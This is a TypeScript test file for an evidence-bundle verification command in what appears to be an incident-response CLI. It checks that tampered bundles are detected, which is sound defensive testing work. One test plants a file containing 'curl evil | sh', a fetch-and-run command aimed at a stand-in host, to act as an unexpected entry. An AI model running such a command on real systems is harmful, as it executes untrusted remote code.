// `firebreak bundle verify` on bundles the CLI wrote, then damaged the ways evidence gets damaged.
import { copyFileSync, readFileSync, writeFileSync } from 'node:fs';
import { basename, join } from 'node:path';
import { Readable } from 'node:stream';
import { pipeline } from 'node:stream/promises';
import { gunzipSync, gzipSync } from 'node:zlib';
import tar from 'tar-stream';
import { beforeAll, describe, expect, it } from 'vitest';
import { bundleFromOutput, tempDir } from './bundle-files.js';
import { runCli } from './cli.js';
import { startContainer, useHarness, type TestContainer } from './harness.js';

useHarness();

let container: TestContainer;
const built: Record<'gzip' | 'none', string> = { gzip: '', none: '' };

beforeAll(async () => {
  container = await startContainer();
  const evidence = tempDir();
  for (const compression of ['gzip', 'none'] as const) {
    const result = await runCli([
      'isolate',
      container.name,
      '--evidence-dir',
      evidence,
      '--compression',
      compression,
      '--incident',
      `INC-${compression}`,
    ]);
    expect(result.code, result.stderr).toBe(0);
    built[compression] = bundleFromOutput(result.stdout).path;
  }
});

/** A fresh copy (with its sidecar) that a test may damage without touching the others. */
function copyOf(compression: 'gzip' | 'none'): string {
  const path = join(tempDir(), basename(built[compression]));
  copyFileSync(built[compression], path);
  copyFileSync(`${built[compression]}.sha256`, `${path}.sha256`);
  return path;
}

const isGzip = (raw: Buffer) => raw[0] === 0x1f && raw[1] === 0x8b;

/**
 * Changes one byte inside inspect.json's content, in place: the container id appears as `"Id": "..."`
 * only there. A gzip bundle is unpacked, changed and packed again; the tar inside keeps its layout.
 */
function flipInspectByte(path: string): void {
  const raw = readFileSync(path);
  const tarBytes = isGzip(raw) ? gunzipSync(raw) : raw;
  const at = tarBytes.indexOf(`"Id": "${container.id}"`);
  expect(at).toBeGreaterThan(0);
  tarBytes[at + 8] = tarBytes[at + 8]! ^ 0x01;
  writeFileSync(path, isGzip(raw) ? gzipSync(tarBytes) : tarBytes);
}

interface Entry {
  header: Partial<tar.Header> & { name: string };
  body: Buffer;
}

/** Reads every entry, lets `edit` change the list, and writes the tar (gzipped if it was) again. */
async function rewriteEntries(path: string, edit: (entries: Entry[]) => Entry[]): Promise<void> {
  const raw = readFileSync(path);
  const extract = tar.extract();
  const entries: Entry[] = [];
  const read = (async () => {
    for await (const entry of extract) {
      const chunks: Buffer[] = [];
      for await (const chunk of entry) chunks.push(chunk as Buffer);
      entries.push({ header: entry.header, body: Buffer.concat(chunks) });
    }
  })();
  await pipeline(Readable.from([isGzip(raw) ? gunzipSync(raw) : raw]), extract as unknown as NodeJS.WritableStream);
  await read;
  const pack = tar.pack();
  for (const { header, body } of edit(entries)) pack.entry({ ...header, size: body.length }, body);
  pack.finalize();
  const chunks: Buffer[] = [];
  for await (const chunk of pack) chunks.push(chunk as Buffer);
  const out = Buffer.concat(chunks);
  writeFileSync(path, isGzip(raw) ? gzipSync(out) : out);
}

const verify = (path: string, ...flags: string[]) => runCli(['bundle', 'verify', path, ...flags]);
const lastLine = (stdout: string) => stdout.trim().split('\n').pop();
const targetFile = (file: string) => `data/targets/${container.name}/${file}`;

describe('firebreak bundle verify', () => {
  it('exits 0 on an untouched gzip bundle and an untouched plain tar, saying how many entries matched', async () => {
    for (const compression of ['gzip', 'none'] as const) {
      const path = copyOf(compression);
      const result = await verify(path);
      expect(result.code, result.stdout + result.stderr).toBe(0);
      expect(lastLine(result.stdout)).toMatch(new RegExp(`^verified ${path}: \\d+ entries, all match$`));
      expect(result.stdout).toContain(`matches ${path}.sha256`);
    }
  });

  it('exits 5 and names inspect.json when one byte of it changes in a plain tar', async () => {
    const path = copyOf('none');
    flipInspectByte(path);
    const result = await verify(path);
    expect(result.code).toBe(5);
    expect(result.stdout).toContain(`${targetFile('inspect.json')} does not match manifest-sha256.txt`);
    expect(lastLine(result.stdout)).toMatch(new RegExp(`^FAILED ${path}: 1 mismatched, sidecar \\.sha256 differs`));
  });

  it('exits 5 and names inspect.json when one byte of it changes in a gzip bundle', async () => {
    const path = copyOf('gzip');
    flipInspectByte(path);
    const result = await verify(path);
    expect(result.code).toBe(5);
    expect(result.stdout).toContain(`${targetFile('inspect.json')} does not match manifest-sha256.txt`);
    expect(lastLine(result.stdout)).toMatch(/^FAILED .*1 mismatched/);
  });

  it('reports a deleted entry as missing', async () => {
    const path = copyOf('gzip');
    await rewriteEntries(path, (entries) => entries.filter((e) => !e.header.name.endsWith('/networks.json')));
    const result = await verify(path);
    expect(result.code).toBe(5);
    expect(result.stdout).toContain(
      `${targetFile('networks.json')} is listed in manifest-sha256.txt but is not in the bundle`,
    );
    expect(lastLine(result.stdout)).toMatch(/^FAILED .*1 missing/);
  });

  it('reports an added entry as unexpected', async () => {
    const path = copyOf('none');
    await rewriteEntries(path, (entries) => {
      const bag = entries[0]!.header.name.split('/')[0];
      return [
        ...entries,
        { header: { name: `${bag}/data/planted.sh`, mode: 0o600 }, body: Buffer.from('curl evil | sh\n') },
      ];
    });
    const result = await verify(path);
    expect(result.code).toBe(5);
    expect(result.stdout).toContain('data/planted.sh is in the bundle but not in manifest-sha256.txt');
    expect(lastLine(result.stdout)).toMatch(/^FAILED .*1 unexpected/);
  });

  it('reports a sidecar that names another hash, with the bundle itself intact', async () => {
    const path = copyOf('gzip');
    writeFileSync(`${path}.sha256`, `${'0'.repeat(64)}  ${basename(path)}\n`);
    const result = await verify(path);
    expect(result.code).toBe(5);
    expect(result.stdout).toMatch(
      new RegExp(`^${path} has sha256 [0-9a-f]{64}, but ${path}\\.sha256 says 0{64}$`, 'm'),
    );
    expect(lastLine(result.stdout)).toMatch(
      new RegExp(`^FAILED ${path}: sidecar \\.sha256 differs \\(\\d+ entries read\\)$`),
    );
  });

  it('prints exactly one JSON document with --json, whether the bundle passes or fails', async () => {
    const good = await verify(copyOf('none'), '--json');
    expect(good.code).toBe(0);
    expect(JSON.parse(good.stdout)).toMatchObject({
      ok: true,
      mismatches: [],
      missing: [],
      unexpected: [],
      sidecar: { present: true, ok: true },
    });

    const path = copyOf('none');
    flipInspectByte(path);
    const bad = await verify(path, '--json');
    expect(bad.code).toBe(5);
    const doc = JSON.parse(bad.stdout);
    expect(doc.ok).toBe(false);
    expect(doc.mismatches.map((m: { path: string }) => m.path)).toEqual([targetFile('inspect.json')]);
  });

  it('exits 2 with a clear message when the bundle file does not exist', async () => {
    const missing = join(tempDir(), 'nope.tar.gz');
    const result = await verify(missing);
    expect(result.code).toBe(2);
    expect(result.stderr).toBe(`firebreak: bundle not found: ${missing}\n`);
    expect(result.stdout).toBe('');
  });
});
